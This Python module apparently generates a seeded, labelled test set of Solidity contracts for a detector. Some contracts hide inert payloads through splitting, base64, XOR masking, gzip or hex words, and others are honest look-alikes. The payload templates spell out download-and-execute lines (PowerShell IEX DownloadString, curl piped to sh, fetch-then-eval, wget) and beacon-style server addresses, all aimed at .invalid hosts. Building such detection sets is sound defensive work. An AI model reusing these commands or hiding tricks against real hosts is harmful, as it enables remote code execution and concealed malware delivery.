"""Inert contracts that carry payloads, and honest ones that look alike, made from a seed.

Every host ends in `.invalid` and no payload works. Families differ in how content is kept, so each
can be left out of what a detector was made with.
"""

import base64
import gzip
import random
from collections.abc import Callable, Iterator
from typing import NamedTuple

HEAD = "// SPDX-License-Identifier: MIT\npragma solidity ^0.8.20;\n"


class Case(NamedTuple):
    """One source file: its family, whether it carries a payload, its text."""

    family: str
    carries: bool
    text: str


def payload(rng: random.Random) -> bytes:
    """Return an inert script, command or page."""
    name = "".join(rng.choices("abcdefghkmnpqrstuvwxyz", k=7))
    return rng.choice(
        (
            f"(async()=>{{const {name}=await fetch('https://{name}.invalid/s');"
            f"eval(await {name}.text())}})()",
            f"var {name}=new XMLHttpRequest();{name}.open('GET','//{name}.invalid/a');"
            f"{name}.onload=()=>Function('return '+{name}.response)();{name}.send()",
            f"let {name}=document.createElement('script');{name}.src='https://{name}.invalid/l.js';"
            f"document.body.append({name})",
            f"powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('"
            f"http://{name}.invalid/a.ps1')\"",
            f"bash -c 'curl -fsSL https://{name}.invalid/i.sh | sh'",
            f"eval(atob('{base64.b64encode(name.encode() * 4).decode()}'))",
            f"import subprocess;subprocess.run(['sh','-c','wget {name}.invalid/x'])",
        )
    ).encode()


def quoted(data: bytes) -> str:
    """Write bytes as a Solidity string."""
    text = data.decode("latin-1").replace("\\", "\\\\").replace('"', '\\"')
    return f'"{text}"'


def store(value: str, kind: str = "string", name: str = "blob") -> str:
    """Write a contract that keeps a value its owner can replace and anybody can read."""
    return (
        f"contract Box {{ address boss = msg.sender; {kind} {name} = {value};\n"
        f" function put({kind} calldata v) external {{\n"
        f"  require(msg.sender == boss); {name} = v; }}\n"
        f" function take() external view returns ({kind} memory) {{ return {name}; }} }}"
    )


def pieces(data: bytes, rng: random.Random) -> list[bytes]:
    """Cut bytes into pieces of 9 to 30."""
    found = []
    while data:
        size = rng.randint(9, 30)
        found.append(data[:size])
        data = data[size:]
    return found


def pushed(rng: random.Random) -> str:
    """Pieces pushed onto an array, joined for the reader."""
    lines = "".join(f"part.push({quoted(each)});\n" for each in pieces(payload(rng), rng))
    return (
        f"contract Log {{ string[] part; address a = msg.sender; constructor() {{ {lines} }}\n"
        " function add(string calldata s) external { require(msg.sender == a); part.push(s); }\n"
        " function all() external view returns (string memory r) {\n"
        "  for (uint i; i < part.length; i++) r = string.concat(r, part[i]); } }"
    )


def mapped(rng: random.Random) -> str:
    """Base64 pieces in a mapping, set in any order."""
    parts = list(enumerate(pieces(base64.b64encode(payload(rng)), rng)))
    rng.shuffle(parts)
    lines = "".join(f"m[{at}] = {quoted(each)};\n" for at, each in parts)
    return (
        f"contract Log {{ mapping(uint => string) m; uint n = {len(parts)};\n"
        f" constructor() {{ {lines} }}\n"
        " function get(uint i) external view returns (string memory) { return m[i]; } }"
    )


def worded(rng: random.Random) -> str:
    """Words of 32 bytes in an array."""
    data = payload(rng)
    words = [data[at : at + 32].ljust(32, b"\0").hex() for at in range(0, len(data), 32)]
    lines = "".join(f"w.push(0x{each});\n" for each in words)
    return (
        f"contract Words {{ bytes32[] w; constructor() {{ {lines} }}\n"
        " function at(uint i) external view returns (bytes32) { return w[i]; } }"
    )


def masked(rng: random.Random) -> str:
    """Bytes under a XOR key, unmasked by the reader."""
    key = bytes(rng.randint(1, 255) for _ in range(rng.choice((1, 1, 2, 3, 4))))
    data = payload(rng)
    hidden = bytes(each ^ key[at % len(key)] for at, each in enumerate(data)).hex()
    return store(f'hex"{hidden}"', "bytes")


def unmasking(rng: random.Random) -> str:
    """The same, unmasked on chain by a getter."""
    key = rng.randint(1, 255)
    hidden = bytes(each ^ key for each in payload(rng)).hex()
    return (
        f'contract View {{ bytes d = hex"{hidden}";\n'
        " function show() external view returns (bytes memory r) { r = d;\n"
        f"  for (uint i; i < r.length; i++) r[i] = r[i] ^ bytes1(uint8({key})); }} }}"
    )


def program(rng: random.Random) -> str:
    """The head of a program, as hex or base64."""
    junk = rng.randbytes(rng.randint(24, 90))
    elf = b"\x7fELF" + bytes([rng.choice((1, 2)), 1, 1, 0]) + bytes(8) + b"\x02\x00\x3e\x00" + junk
    dos = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + junk
    data = rng.choice((elf, dos))
    if rng.random() < 0.5:
        return store(f'hex"{data.hex()}"', "bytes")
    return store(quoted(base64.b64encode(data)))


def server(rng: random.Random) -> str:
    """The address of a server."""
    name = "".join(rng.choices("abcdefghkmnpqrstuvwxyz", k=9))
    port = rng.randint(1025, 65000)
    found = rng.choice(
        (
            f"{name}.invalid:{port}",
            f"tcp://{name}.invalid:{port}",
            f"http://203.0.113.{port % 250}/gate.php",
            f"https://{name}.invalid/api/v2/beacon",
            f"wss://{name}.invalid/ws",
            f"https://{name}.invalid,https://{name[::-1]}.invalid",
            f"http://{name * 3}abc.onion/c",
        )
    )
    data = found.encode()
    return store(quoted(rng.choice((data, base64.b64encode(data), data[::-1]))))


def packed(rng: random.Random) -> str:
    """A script below gzip and base64, or reversed, or in hex."""
    data = payload(rng)
    form = rng.choice((base64.b64encode(gzip.compress(data)), data[::-1], data.hex().encode()))
    return store(quoted(form))


def noted(rng: random.Random) -> str:
    """An event's argument, in a contract that does other things too."""
    return (
        "contract Shop { mapping(address => uint) public due; event Note(string s);\n"
        " function pay() external payable { due[msg.sender] += msg.value; }\n"
        f" function note() external {{ emit Note({quoted(payload(rng))}); }} }}"
    )


PAGE = (
    "<html><head><style>canvas{{width:100%}}</style></head><body><canvas id=c></canvas><script>"
    "var x=document.getElementById('c').getContext('2d');function r(){{x.fillStyle='#{0:06x}';"
    "x.fillRect(0,0,{1},{1});requestAnimationFrame(r)}}r()</script></body></html>"
)


def page(rng: random.Random) -> str:
    """A page that draws."""
    text = PAGE.format(rng.randrange(1 << 24), rng.randint(9, 400)).encode()
    link = b"data:text/html;base64," + base64.b64encode(text)
    return store(quoted(rng.choice((text, link))), name="art")


def library_page(rng: random.Random) -> str:
    """A page that draws with a library from a host for libraries, or unpacks one it carries."""
    seed = rng.randrange(1 << 20)
    text = rng.choice(
        (
            "<html><body><script src='https://cdn.example/p5.min.js'></script><script>"
            f"function setup(){{createCanvas({seed % 900},400)}}</script></body></html>",
            "<html><canvas id=c></canvas><script>var s=document.createElement('script');"
            f"s.text=atob('{base64.b64encode(b'let seed=%d;' % seed).decode()}');"
            "document.body.append(s)</script></html>",
        )
    )
    return store(quoted(text.encode()), name="art")


def table(rng: random.Random) -> str:
    """A table of bytes that code looks up."""
    data = rng.randbytes(rng.choice((64, 256)))
    return (
        f'contract Box {{ bytes constant T = hex"{data.hex()}";\n'
        " function look(uint8 i) external pure returns (uint8) {"
        " return uint8(T[i % T.length]); }\n"
        " function all() external pure returns (bytes memory) { return T; } }"
    )


def record(rng: random.Random) -> str:
    """A text record of the domain name system."""
    key = base64.b64encode(b"\x30\x81\x9f\x30\x0d" + rng.randbytes(90)).decode()
    text = rng.choice(
        (
            f"v=spf1 include:_spf.example.com ip4:192.0.2.{rng.randint(1, 250)} ~all",
            f"v=DKIM1; k=rsa; p={key}",
            f"google-site-verification={key[:43]}",
            "v=DMARC1; p=reject; rua=mailto:post@example.org",
        )
    )
    return store(quoted(text.encode()), name="txt")


def signed(rng: random.Random) -> str:
    """A check of signatures with typed data."""
    return (
        "contract Check { bytes32 constant T = keccak256("
        '"Order(address maker,uint256 amount,bytes32 salt)");\n'
        f" bytes32 salt = 0x{rng.randbytes(32).hex()};\n"
        " function ok(bytes32 h, uint8 v, bytes32 r, bytes32 s) external view returns (address) {\n"
        '  bytes memory m = abi.encodePacked("\\x19Ethereum Signed Message:\\n32", h, salt);\n'
        "  return ecrecover(keccak256(m), v, r, s); } }"
    )


def metadata(rng: random.Random) -> str:
    """What markets show of a token."""
    at = rng.randint(1, 9999)
    text = rng.choice(
        (
            f'{{"name":"Piece {at}","image":"https://example.org/{at}.png"}}',
            f"https://example.org/api/{at}/",
            "data:application/json;base64,"
            + base64.b64encode(b'{"name":"Piece %d"}' % at).decode(),
        )
    )
    kept = store(quoted(text.encode()), name="meta")
    return kept.replace("function take()", "function tokenURI(uint)")


def words(rng: random.Random) -> str:
    """Messages of errors that speak of commands and scripts."""
    at = rng.randint(1, 999)
    return (
        "contract Job { uint left;\n function run(uint n) external {\n"
        f'  require(n > {at}, "run: eval of the script failed, see https://docs.example.org/e/{at}");\n'
        '  require(n < 1e9, "exec: the command (curl) may not fetch this"); left = n; } }'
    )


def factory(rng: random.Random) -> str:
    """Creation code of another contract."""
    code = "608060405234801561001057600080fd5b50" + rng.randbytes(120).hex()
    return (
        f'contract Make {{ bytes code = hex"{code}";\n'
        " function make(bytes32 s) external returns (address a) { bytes memory c = code;\n"
        "  assembly { a := create2(0, add(c, 32), mload(c), s) } } }"
    )


CARRIERS: dict[str, Callable[[random.Random], str]] = {
    "pushed": pushed,
    "mapped": mapped,
    "worded": worded,
    "masked": masked,
    "unmasking": unmasking,
    "program": program,
    "server": server,
    "packed": packed,
    "noted": noted,
}
HONEST: dict[str, Callable[[random.Random], str]] = {
    "page": page,
    "library_page": library_page,
    "table": table,
    "record": record,
    "signed": signed,
    "metadata": metadata,
    "words": words,
    "factory": factory,
}


def cases(count: int, seed: int = 1) -> Iterator[Case]:
    """Yield `count` cases of each family."""
    rng = random.Random(seed)
    for carries, families in ((True, CARRIERS), (False, HONEST)):
        for family, make in families.items():
            for _ in range(count):
                yield Case(family, carries, HEAD + make(rng) + "\n")
